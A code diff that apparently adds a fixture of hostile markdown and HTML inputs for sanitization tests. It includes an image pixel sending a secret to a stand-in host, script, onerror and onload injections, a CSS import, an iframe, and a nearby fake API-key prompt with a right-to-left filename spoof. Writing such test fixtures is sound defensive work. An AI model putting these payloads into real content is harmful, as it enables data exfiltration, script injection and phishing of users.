@@ -41,6 +41,18 @@ TEMPLATES = (
     "</text></svg><image href={evil}/svg.png /> <tspan>span</tspan> %{{customdata}} <sup>up</sup>",
     "Session expired. Enter your API key: \u202egnp.exe\u202c \u200bzero\u0000nul",
 )
+PAYLOADS = (
+    "![pixel](http://evil.example/pixel.png?secret=1)",
+    "![ref][x]\n\n[x]: http://evil.example/ref.png",
+    "[click](javascript:alert(1)) <http://evil.example/auto> [id]: <b>",
+    "http://evil.example/bare HTTPS://evil.example www.evil.example a@evil.example xmpp:a@evil.example",
+    "<script>window.hit=1</script><img src=http://evil.example/img.png onerror=window.hit=1>",
+    "<svg onload=window.hit=1></svg><style>@import 'http://evil.example/a.css';</style>",
+    "<iframe src=http://evil.example></iframe><a href='http://evil.example'>link</a>",
+    ":red[red] :material/home: $x^2$ :smile: # heading\n- item | a | b |",
+)
+HOSTILE = " ".join(PAYLOADS)
+"""Hostile texts for files, where nobody listens."""
 
 
 @dataclass(slots=True)
